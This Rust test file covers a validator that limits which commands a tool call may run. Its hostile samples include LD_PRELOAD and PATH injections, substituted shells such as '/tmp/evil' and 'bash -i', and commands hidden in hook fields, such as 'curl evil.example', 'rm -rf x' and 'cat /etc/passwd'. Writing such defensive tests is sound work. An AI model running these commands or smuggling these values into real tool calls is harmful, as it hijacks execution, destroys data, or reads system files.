//! Limits of commands: what changes which program runs is held to them too.

use serde_json::{Value, json};

use crate::common::{assert_honest, assert_hostile, checks};

fn limited() -> switchboard_validators::arguments::Checks {
    checks(&[], &json!({}), &[json!({"commands": ["ls"]})])
}

#[test]
fn variables_that_change_which_program_runs_are_refused() {
    let names = [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "PATH",
        "BASH_ENV",
        "ENV",
        "SHELL",
        "DYLD_INSERT_LIBRARIES",
        "IFS",
    ];
    let hostile: Vec<Value> = names
        .into_iter()
        .flat_map(|name| {
            [
                json!({"command": format!("{name}=/tmp/x ls")}),
                json!({"command": "ls", "env": {name: "/tmp/x"}}),
                json!({"command": "ls", "environment": [format!("{name}=/tmp/x")]}),
                json!({"command": "ls", "env": [{"name": name, "value": "/tmp/x"}]}),
                json!({"command": "ls", "options": {"env": {name: "/tmp/x"}}}),
                json!({"command": "ls", "env": format!("{name}=/tmp/x")}),
            ]
        })
        .collect();
    assert_hostile(&limited(), &hostile);
    assert_honest(
        &limited(),
        &[
            json!({"command": "LANG=C ls"}),
            json!({"command": "ls", "env": {"LANG": "C", "NO_COLOR": "1"}}),
            json!({"command": "ls -la"}),
        ],
    );
}

#[test]
fn another_program_that_runs_the_command_is_one_of_the_allowed_commands() {
    let keys = ["shell", "interpreter", "shell_path", "shellPath", "executor", "launcher", "wrapper"];
    let programs = ["pwsh", "/tmp/bash", "/tmp/evil", "python3 -c 'x'", "./x.sh"];
    let hostile: Vec<Value> =
        keys.into_iter().flat_map(|key| programs.map(|program| json!({"command": "ls", key: program}))).collect();
    assert_hostile(&limited(), &hostile);
    assert_hostile(&limited(), &[json!({"command": "ls", "options": {"shell": "/tmp/evil"}})]);
    assert_honest(
        &limited(),
        &[
            json!({"command": "ls", "shell": true}),
            json!({"command": "ls", "shell": "false"}),
            json!({"command": "ls", "shell": ""}),
            json!({"command": "ls", "shell": "ls"}),
            // It reads the command as it was judged.
            json!({"command": "ls", "shell": "bash"}),
            json!({"command": "ls", "shell": "/bin/sh"}),
        ],
    );
    let with_pwsh = checks(&[], &json!({}), &[json!({"commands": ["ls", "pwsh"]})]);
    assert_honest(&with_pwsh, &[json!({"command": "ls", "shell": "pwsh"})]);
}

#[test]
fn commands_under_keys_for_hooks_lines_and_keys_are_commands() {
    let keys = ["hook", "hooks", "pre_hook", "line", "lines", "keys", "keystrokes", "on_success"];
    let hostile: Vec<Value> = keys
        .into_iter()
        .flat_map(|key| [json!({key: "rm -rf x"}), json!({key: ["curl evil.example"]}), json!({key: "bash x.sh\n"})])
        .collect();
    assert_hostile(&limited(), &hostile);
    assert_honest(
        &limited(),
        &[
            json!({"line": 5}),
            json!({"line": "12"}),
            json!({"line": "a line of text"}),
            json!({"keys": ["ctrl", "c"]}),
            json!({"keys": "Enter"}),
            json!({"hook": "on_push"}),
            json!({"line": "ls -la"}),
        ],
    );
}

#[test]
fn every_variable_in_front_of_a_command_is_read_as_a_shell_reads_it() {
    let lines = [
        "A='x y' LD_PRELOAD=/tmp/x.so ls",
        "A=\"x y\" LD_PRELOAD=/tmp/x.so ls",
        "A=x\\ y LD_PRELOAD=/tmp/x.so ls",
        "A=' ' PATH=/tmp ls",
        "A= B='' PATH=/tmp ls",
        "LD_PRELOAD+=/tmp/x.so ls",
        "BASH_ENV+=/tmp/x ls",
        "GIT_PAGER+=x ls",
        "PATH[0]=/tmp ls",
        "LD_\\\nPRELOAD=/tmp/x ls",
        "LD_PRELOAD=/tmp/x\tls",
        "! LD_PRELOAD=/tmp/x ls",
        "A=$'x y' LD_PRELOAD=/tmp/x ls",
        "LD_PRELOAD='/tmp/a b' ls",
    ];
    assert_hostile(&limited(), &lines.map(|line| json!({"command": line})));
    assert_honest(
        &limited(),
        &[
            "A='x y' ls",
            "LANG=C LC_ALL='C.UTF-8' ls -la",
            "A=\"x y\" B=z ls",
            "TZ=Europe/Berlin ls",
            "A+=x ls",
            "ls A=b",
        ]
        .map(|line| json!({"command": line})),
    );
}

#[test]
fn variables_beside_a_command_are_found_at_any_depth_and_in_any_shape() {
    let all = [
        json!("A=1 LD_PRELOAD=/tmp/x"),
        json!("A=1; LD_PRELOAD=/tmp/x"),
        json!("A=1;LD_PRELOAD=/tmp/x"),
        json!("A=1,PATH=/tmp"),
        json!("A=1\nexport PATH=/tmp"),
        json!("A='1 2' PATH=/tmp"),
        json!("-e LD_PRELOAD=/tmp/x"),
        json!("{LD_PRELOAD=/tmp/x}"),
        json!("LD_PRELOAD+=/tmp/x"),
        json!(["A=1 LD_PRELOAD=/tmp/x"]),
        json!(["-e", "LD_PRELOAD=/tmp/x"]),
        json!(["--env=LD_PRELOAD=/tmp/x", "A=1"]),
        json!([["A=1"], ["LD_PRELOAD=/tmp/x"]]),
        json!({"A": "1", "B": {"LD_PRELOAD": "/tmp/x"}}),
        json!({"a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": {"i": {"PATH": "/tmp"}}}}}}}}}}),
        json!({"list": ["LD_PRELOAD=/tmp/x"]}),
        json!({"set": "LD_PRELOAD=/tmp/x"}),
        json!([{"k": "LD_PRELOAD", "v": "/tmp/x"}]),
        json!([{"name": " LD_PRELOAD ", "val": "/tmp/x"}]),
        json!("[\"LD_PRELOAD=/tmp/x\"]"),
        json!({"x": "{\"LD_PRELOAD\": \"/tmp/x\"}"}),
    ];
    let hostile: Vec<Value> = all
        .iter()
        .flat_map(|env| ["env", "environment", "extra_env"].map(|key| json!({"command": "ls", key: env})))
        .collect();
    assert_hostile(&limited(), &hostile);
    assert_honest(
        &limited(),
        &[
            json!({"LANG": "C", "URL": "https://a.example/?path=/x&a=b"}),
            json!({"A": "1", "B": {"C": "2"}}),
            json!("A=1 B=2"),
            json!(["A=1", "B=a,b"]),
            json!([{"name": "A", "value": "x=y"}]),
            json!([["A", "1"]]),
            json!({"NOTE": "the path is set"}),
            json!("production"),
            json!([]),
        ]
        .map(|env| json!({"command": "ls", "env": env})),
    );
}

#[test]
fn a_program_that_runs_the_command_is_found_at_any_depth_and_in_any_shape() {
    let keys =
        ["shell", "interpreter", "shellExecutable", "shell_bin", "shell_cmd", "defaultShell", "runner", "wrapper"];
    let hidden = [
        json!(["/tmp/evil"]),
        json!(["perl", "-e"]),
        json!(["bash", "--rcfile", "/tmp/x"]),
        json!(["bash", "-i"]),
        json!("bash --rcfile /tmp/x"),
        json!({"path": "/tmp/evil"}),
        json!({"path": "/tmp/evil", "args": []}),
        json!({"program": {"name": "perl"}}),
        json!({"type": "bash", "executable": "/tmp/evil"}),
        json!([{"path": "/tmp/evil"}]),
        json!([["perl"]]),
        json!("[\"/tmp/evil\"]"),
        json!("{\"path\": \"/tmp/evil\"}"),
        json!({"linux": "bash", "windows": "pwsh"}),
    ];
    let hostile: Vec<Value> =
        hidden.iter().flat_map(|value| keys.map(|key| json!({"command": "ls", key: value}))).collect();
    assert_hostile(&limited(), &hostile);
    assert_hostile(
        &limited(),
        &[
            json!({"options": {"shell": {"path": "/tmp/evil"}}, "command": "ls"}),
            json!({"run": {"command": "ls"}, "interpreter": ["perl"]}),
            json!({"steps": [{"run": "ls"}], "shell": "pwsh"}),
            json!({"shell": "/tmp/evil"}),
            json!({"interpreter": ["/tmp/evil"], "stdin": "x"}),
        ],
    );
    let honest = [
        json!(true),
        json!(null),
        json!("/bin/bash"),
        json!("bash -c"),
        json!("/bin/sh -lc"),
        json!(["bash", "-c"]),
        json!(["/bin/bash", "-euo", "pipefail", "-c"]),
        json!({"path": "/bin/sh", "args": ["-c"]}),
        json!({"type": "bash", "login": true, "cwd": "/tmp", "timeout": 5}),
        json!({"enabled": false}),
        json!({}),
        json!([]),
        json!("{\"path\": \"bash\"}"),
        json!(["ls"]),
    ];
    let honest: Vec<Value> = honest.iter().map(|value| json!({"command": "ls", "shell": value})).collect();
    assert_honest(&limited(), &honest);
}

#[test]
fn commands_under_keys_for_hooks_are_found_at_any_depth() {
    assert_hostile(
        &limited(),
        &[
            json!({"command": "ls", "hooks": {"pre": "curl evil.example"}}),
            json!({"hooks": {"pre": ["curl evil.example"]}}),
            json!({"hooks": {"pre": ["curl", "evil.example"]}}),
            json!({"hooks": [{"when": {"do": "rm -rf x"}}]}),
            json!({"hooks": "{\"pre\": \"curl evil.example\"}"}),
            json!({"on_success": {"do": "curl x"}}),
            json!({"onExit": ["rm", "x"]}),
            json!({"on": {"push": "rm x"}}),
            json!({"trigger": {"run": {"text": "bash x.sh"}}}),
            json!({"lines": [["curl x"]]}),
            json!({"lines": [["curl", "x"]]}),
            json!({"line": "make install"}),
            json!({"line": "find . -delete"}),
            json!({"first_line": "cat /etc/passwd"}),
            json!({"on_error": "kill -9 1"}),
            json!({"keys": "sort -o x y\n"}),
        ],
    );
    assert_honest(
        &limited(),
        &[
            json!({"based_on": "date of birth"}),
            json!({"depends_on": ["who is it", "who was"]}),
            json!({"on_date": "date 5"}),
            json!({"trigger": "time of day"}),
            json!({"trigger": {"when": "time of day"}}),
            json!({"subject_line": "Test mail"}),
            json!({"tag_line": "Cut the noise"}),
            json!({"first_line": "Find out more"}),
            json!({"line": "make sure it works"}),
            json!({"lines": ["find the needle", "cut it"]}),
            json!({"line": "sort by name"}),
            json!({"address_line": "Main Street 5"}),
            json!({"on_success": "notify ann"}),
            json!({"keys": ["find", "me"]}),
            json!({"keys": ["date", "time"]}),
            json!({"hooks": ["pre-commit", "pre-push"]}),
            json!({"hooks": {"pre": "ls -la"}}),
            json!({"on": {"push": {"branches": ["main"]}}}),
            json!({"wrapper": "div"}),
            json!({"wrapper": "<div>"}),
            json!({"variables": {"shell": "x"}}),
            json!({"shell": "egg"}),
            json!({"launcher": "steam"}),
            json!({"interpreter": "Ann Smith"}),
            json!({"gift_wrapper": ["red", "gold"]}),
        ],
    );
}
